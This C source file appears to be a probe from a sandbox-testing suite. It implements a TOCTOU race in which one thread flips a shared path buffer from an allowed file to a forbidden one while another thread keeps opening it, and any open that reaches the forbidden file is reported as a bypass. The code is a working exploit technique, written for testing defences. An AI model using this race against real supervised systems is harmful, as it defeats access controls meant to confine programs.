// path_race: the TOCTOU race on path arguments. One thread opens a buffer naming an allowed file
// over and over; another flips the same buffer, with no pause, to name a forbidden file of the
// same length. A supervisor that checks the string in our memory and then lets the kernel read
// it again opens the forbidden file whenever the flip lands between the two reads. Every open
// that succeeds is compared (by inode) with the forbidden file: one match is the bypass.
//
//   path_race DIR SECONDS   DIR holds the files "allowed" and "forbiddn" (same length)
#include "attack.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include <time.h>

static char g_buf[4096];
static size_t g_off;  // where the names differ: the last path component
static atomic_int g_stop;
static unsigned long long g_flips;

static void *flipper(void *arg) {
  (void)arg;
  volatile char *p = g_buf + g_off;
  unsigned long long n = 0;
  // Each name stays for a varying few microseconds, about as long as a supervisor's decision,
  // so that sooner or later one flip lands between its read and the kernel's.
  unsigned spin = 1;
  while (!atomic_load_explicit(&g_stop, memory_order_relaxed)) {
    memcpy((char *)p, "forbiddn", 8);
    __asm__ volatile("" ::: "memory");  // both stores happen, in this order
    for (volatile unsigned i = 0; i < spin; i++) {
    }
    memcpy((char *)p, "allowed\0", 8);
    __asm__ volatile("" ::: "memory");
    for (volatile unsigned i = 0; i < spin; i++) {
    }
    spin = spin * 1103515245u % 4096u + 1;
    n += 2;
  }
  g_flips = n;
  return NULL;
}

int main(int argc, char **argv) {
  if (argc != 3) {
    say(2, "usage: path_race DIR SECONDS\n");
    return 2;
  }
  char forbidden[4096];
  snprintf(forbidden, sizeof forbidden, "%s/forbiddn", argv[1]);
  struct stat fst;
  if (stat(forbidden, &fst) != 0) {
    setup_error("path-race", "stat %s: %s", forbidden, strerror(errno));
    return finish();
  }
  g_off = (size_t)snprintf(g_buf, sizeof g_buf, "%s/", argv[1]);
  memcpy(g_buf + g_off, "allowed\0", 8);
  const double seconds = atof(argv[2]);
  pthread_t th;
  if (pthread_create(&th, NULL, flipper, NULL) != 0) {
    setup_error("path-race", "pthread_create failed");
    return finish();
  }
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  unsigned long long opens = 0, allowed = 0, refused = 0, forbidden_opened = 0, other = 0;
  int last_err = 0;
  for (;;) {
    for (int i = 0; i < 256; i++) {
      opens++;
      int fd = openat(AT_FDCWD, g_buf, O_RDONLY | O_CLOEXEC);
      if (fd < 0) {
        refused++;
        last_err = errno;
        continue;
      }
      struct stat st;
      if (fstat(fd, &st) == 0 && st.st_ino == fst.st_ino && st.st_dev == fst.st_dev)
        forbidden_opened++;
      else
        allowed++;
      close(fd);
    }
    clock_gettime(CLOCK_MONOTONIC, &t);
    if ((double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9 >= seconds) break;
  }
  atomic_store(&g_stop, 1);
  pthread_join(th, NULL);
  (void)other;
  if (forbidden_opened)
    bypass("path-race", "opened the forbidden file %llu times in %llu opens (%llu flips)",
           forbidden_opened, opens, g_flips);
  else if (allowed == 0)
    setup_error("path-race", "not one open of the allowed file worked in %llu (errno=%s)", opens,
                errname(last_err));
  else
    ok("path-race", "%llu opens, %llu flips: allowed %llu, refused %llu (errno=%s), forbidden 0",
       opens, g_flips, allowed, refused, errname(last_err));
  return finish();
}
